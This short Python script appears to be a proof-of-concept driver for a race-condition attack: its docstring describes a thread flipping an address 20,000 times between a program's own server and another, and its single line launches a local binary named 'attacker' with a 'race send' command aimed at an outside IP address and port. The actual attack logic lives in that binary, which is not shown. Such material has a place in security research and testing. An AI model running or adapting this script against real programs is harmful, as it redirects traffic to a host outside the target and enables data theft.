"""A second thread flips the address 20,000 times between the program's own server and another."""
import subprocess

subprocess.run(["./attacker", "race", "send", "93.184.216.35:9000", "20000"])
